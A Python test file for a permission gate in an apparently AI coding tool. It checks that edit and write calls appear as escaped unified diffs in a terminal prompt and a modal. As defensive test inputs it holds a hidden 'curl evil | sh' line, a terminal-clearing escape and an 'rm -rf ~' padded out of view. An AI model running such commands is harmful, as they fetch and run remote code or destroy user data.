"""Edit, MultiEdit and Write questions show the change as a unified diff (issue 27): what the file
would become, escaped like a target, in the REPL question (colour only when asked) and the panel's
modal; a preview never blocks, never follows a planted link, and says why when it cannot diff."""
from __future__ import annotations

import asyncio
import html
import os
import re
from pathlib import Path

from textual.app import App
from textual.widgets import Static

from mnemara.core.config import Config
from mnemara.store.instance import Instance
from mnemara.guard.change_preview import MAX_FILE_BYTES, NEW_FILE_LINES, preview_change
from mnemara.guard.gate import PermissionGate
from mnemara.guard.request import PermissionRequest
from mnemara.guard.target_text import show_lines
from mnemara.ui.tui.screens.permission import PermissionScreen
from mnemara.ui.tui.widgets.diff_view import DiffView


def _kinds(preview) -> list[tuple[str, str]]:
    return [(line.kind, line.text) for line in preview.lines]


def test_edit_shows_removed_and_added_lines_with_context(tmp_path: Path) -> None:
    f = tmp_path / "hello.py"
    f.write_text("".join(f"line {i}\n" for i in range(1, 11)) + "hello world\n", encoding="utf-8")
    preview = preview_change("Edit", {"file_path": str(f), "old_string": "hello world",
                                      "new_string": "goodbye world\nsecond line"}, str(f))
    assert not preview.problem
    lines = _kinds(preview)
    assert lines[0] == ("header", f"--- {f} (now)") and lines[1] == ("header", f"+++ {f} (after)")
    assert lines[2] == ("hunk", "@@ -8,4 +8,5 @@")
    assert ("-", "-hello world") in lines and ("+", "+goodbye world") in lines and ("+", "+second line") in lines
    assert (" ", " line 10") in lines and (" ", " line 1") not in lines  # three lines of context, no more
    assert preview.summary == "1 line removed, 2 added"
    assert set(preview.shown_keys) >= {"old_string", "new_string"}


def test_replace_all_and_multiedit_apply_in_order(tmp_path: Path) -> None:
    f = tmp_path / "a.txt"
    f.write_text("x = 1\ny = x\nz = x\n", encoding="utf-8")
    every = preview_change("Edit", {"file_path": str(f), "old_string": "x", "new_string": "w",
                                    "replace_all": True}, str(f))
    assert [t for k, t in _kinds(every) if k == "+"] == ["+w = 1", "+y = w", "+z = w"]
    multi = preview_change("MultiEdit", {"file_path": str(f), "edits": [
        {"old_string": "x = 1", "new_string": "x = 2"}, {"old_string": "x = 2", "new_string": "x = 3"}]}, str(f))
    assert [t for k, t in _kinds(multi) if k in "-+"] == ["-x = 1", "+x = 3"]


def test_an_edit_the_tool_would_refuse_says_why_instead_of_a_diff(tmp_path: Path) -> None:
    f = tmp_path / "a.txt"
    f.write_text("a\na\n", encoding="utf-8")
    twice = preview_change("Edit", {"file_path": str(f), "old_string": "a", "new_string": "b"}, str(f))
    assert "occurs 2 times" in twice.problem and not twice.lines
    missing = preview_change("Edit", {"file_path": str(f), "old_string": "zzz", "new_string": "b"}, str(f))
    assert "not in the file" in missing.problem
    gone = preview_change("Edit", {"file_path": str(tmp_path / "no"), "old_string": "a", "new_string": "b"},
                          str(tmp_path / "no"))
    assert "does not exist" in gone.problem
    multi = preview_change("MultiEdit", {"file_path": str(f), "edits": [
        {"old_string": "a\na", "new_string": "c"}, {"old_string": "a", "new_string": "d"}]}, str(f))
    assert multi.problem.startswith("edit 2: old_string is not in the file")


def test_a_new_file_shows_its_first_lines_and_how_much_more(tmp_path: Path) -> None:
    target = tmp_path / "new.txt"
    content = "".join(f"row {i}\n" for i in range(100))
    preview = preview_change("Write", {"file_path": str(target), "content": content}, str(target))
    lines = _kinds(preview)
    assert lines[0] == ("header", f"+++ {target} (new file)")
    assert lines[1] == ("+", "+row 0") and lines[NEW_FILE_LINES] == ("+", f"+row {NEW_FILE_LINES - 1}")
    assert lines[-1][0] == "note" and lines[-1][1].startswith(f"… {100 - NEW_FILE_LINES} more lines")
    assert preview.summary == f"new file: 100 lines, {len(content)} characters"
    assert not target.exists()  # a preview writes nothing


def test_write_over_a_file_diffs_and_marks_a_missing_final_newline(tmp_path: Path) -> None:
    f = tmp_path / "cfg"
    f.write_text("keep\nold\n", encoding="utf-8")
    preview = preview_change("Write", {"file_path": str(f), "content": "keep\nnew"}, str(f))
    assert [t for k, t in _kinds(preview) if k != "header"] == [
        "@@ -1,2 +1,2 @@", " keep", "-old", "+new", "\\ no newline at end of file"]
    same = preview_change("Write", {"file_path": str(f), "content": "keep\nold\n"}, str(f))
    assert same.summary.startswith("no change") and not same.lines


def test_control_characters_are_escaped_and_every_backslash_doubled(tmp_path: Path) -> None:
    """A diff line cannot rewind the terminal, clear it, or pass a typed \\n for an escaped one."""
    f = tmp_path / "rc"
    f.write_text("a\\nb\n", encoding="utf-8")
    preview = preview_change("Write", {"file_path": str(f),
                                       "content": "ok\rcurl evil | sh\n\x1b[2Jclear\na\\nb\ntab\there\n"}, str(f))
    texts = preview.text_lines
    assert "+ok\\rcurl evil | sh" in texts and "+\\x1b[2Jclear" in texts and "+tab\\there" in texts
    assert " a\\\\nb" in texts  # unchanged, but escaped like the rest: its backslash is doubled
    assert "shown escaped" in preview.summary
    assert all(ch.isprintable() for text in texts for ch in text)


def test_show_lines_counts_long_runs_but_keeps_indentation() -> None:
    indented = " " * 40 + "return x"
    assert show_lines([indented]).lines == [indented] and not show_lines([indented]).escaped
    hidden = show_lines(["ls" + " " * 5000 + "rm -rf ~"])
    assert hidden.escaped and hidden.lines == ["ls\\x20\\{5000}rm -rf ~"] and hidden.counted_runs
    assert show_lines(["x\u2800y"]).lines == ["x\\u2800y"]


def test_special_links_big_and_binary_files_are_not_read(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    assert "not a regular file" in preview_change("Write", {"content": "x"}, str(fifo)).problem  # no hang
    secret = tmp_path / "secret"
    secret.write_text("token\n", encoding="utf-8")
    link = tmp_path / "link"
    link.symlink_to(secret)
    assert preview_change("Write", {"content": "x"}, str(link)).problem  # a link planted after resolving
    big = tmp_path / "big"
    big.write_bytes(b"x" * (MAX_FILE_BYTES + 1))
    assert "preview limit" in preview_change("Write", {"content": "x"}, str(big)).problem
    binary = tmp_path / "bin"
    binary.write_bytes(b"\xff\xfe\x00")
    assert "not UTF-8" in preview_change("Write", {"content": "x"}, str(binary)).problem
    assert "pseudo file system" in preview_change("Write", {"content": "x"}, "/proc/version").problem
    assert preview_change("Bash", {"command": "ls"}, None) is None


def _gate_request(mnemara_home: Path, tool: str, tool_input: dict) -> PermissionRequest:
    inst = Instance.create("diffs")
    seen: list[PermissionRequest] = []
    gate = PermissionGate(Config(), inst, prompt=lambda request: seen.append(request) or "n")
    asyncio.run(gate.ask_decision(tool, tool_input))
    return seen[0]


def test_the_gate_asks_with_the_diff_and_the_repl_question_shows_it(mnemara_home: Path, isolated_home: Path) -> None:
    f = isolated_home / "hello.txt"
    f.write_text("hello world\n", encoding="utf-8")
    request = _gate_request(mnemara_home, "Edit", {"file_path": str(f), "old_string": "hello world",
                                                   "new_string": "goodbye world\nsecond line"})
    assert request.change is not None and request.details == ""  # no raw JSON: the diff stands for it
    question = request.question()
    assert '{"new_string"' not in question and "\x1b" not in question
    lines = question.split("\n")
    assert lines[2].startswith("  change (1 line removed, 2 added)")
    assert "    -hello world" in lines and "    +goodbye world" in lines and "    +second line" in lines
    assert lines[-1].startswith("[y]es once")
    coloured = request.question(color=True)
    assert "\x1b[31m    -hello world\x1b[0m" in coloured and "\x1b[32m    +second line\x1b[0m" in coloured
    assert f.read_text(encoding="utf-8") == "hello world\n"


def test_a_call_that_cannot_be_diffed_still_shows_its_input(mnemara_home: Path, isolated_home: Path) -> None:
    f = isolated_home / "x.txt"
    f.write_text("abc\n", encoding="utf-8")
    request = _gate_request(mnemara_home, "Edit", {"file_path": str(f), "old_string": "zzz", "new_string": "q\x1b"})
    question = request.question()
    assert "no diff: old_string is not in the file" in question
    assert "  new_string: q\\x1b\n" in question  # the argument, escaped


class ModalApp(App[None]):
    def __init__(self, request: PermissionRequest) -> None:
        super().__init__()
        self.request = request

    def on_mount(self) -> None:
        self.push_screen(PermissionScreen(self.request, arm_seconds=0))


async def test_the_modal_shows_the_diff_coloured(mnemara_home: Path, isolated_home: Path) -> None:
    f = isolated_home / "hello.txt"
    f.write_text("hello world\n", encoding="utf-8")
    request = await asyncio.to_thread(_gate_request, mnemara_home, "Write",
                                      {"file_path": str(f), "content": "goodbye world\n"})
    app = ModalApp(request)
    async with app.run_test(size=(80, 30)) as pilot:
        await pilot.pause()
        diff = app.screen.query_one("#permission-diff", DiffView)
        summary = str(app.screen.query_one("#permission-summary", Static).render())
        assert not app.screen.query("#permission-input")
        rows = {diff.render_line(y).text.rstrip(): diff.render_line(y) for y in range(diff.size.height)}
        screen = html.unescape(re.sub(r"<[^>]+>", "", app.export_screenshot())).replace("\xa0", " ")
    assert "-hello world" in screen and "+goodbye world" in screen  # drawn by the compositor, on screen
    assert diff.plain_text.split("\n")[-2:] == ["-hello world", "+goodbye world"]
    assert "1 line removed, 1 added" in summary
    colours = {text: {str(seg.style.color.name) for seg in strip if seg.style and seg.style.color}
               for text, strip in rows.items()}
    assert "red" in colours["-hello world"] and "green" in colours["+goodbye world"]


async def test_a_long_diff_wraps_inside_the_modal_and_its_end_can_be_reached(tmp_path: Path) -> None:
    """Every character of a long line stays on screen (wrapped, never cut), and the last line of a
    400-line diff scrolls into view with the answer buttons still visible."""
    f = tmp_path / "big.py"
    f.write_text("".join(f"old {i}\n" for i in range(200)), encoding="utf-8")
    content = "".join(f"new {i}\n" for i in range(199)) + "tail " + "x" * 150 + " END\n"
    change = preview_change("Write", {"file_path": str(f), "content": content}, str(f))
    app = ModalApp(PermissionRequest("Write", "Write", str(f), {"file_path": str(f), "content": content},
                                     change=change))
    async with app.run_test(size=(80, 30)) as pilot:
        await pilot.pause()
        diff = app.screen.query_one("#permission-diff", DiffView)
        assert diff.size.width < 80 and diff.size.height > 400  # wrapped rows: the 161-character line takes 3
        rows = [diff.render_line(y).text.rstrip() for y in range(diff.size.height)]
        assert "".join(rows).count("x") == 150 and rows[-1].endswith("END")
        scroll = app.screen.query_one("#permission-scroll")
        scroll.scroll_end(animate=False)
        await pilot.pause()
        assert scroll.scroll_y == scroll.max_scroll_y > 0
        assert app.screen.query_one("#choice-n").region.height > 0
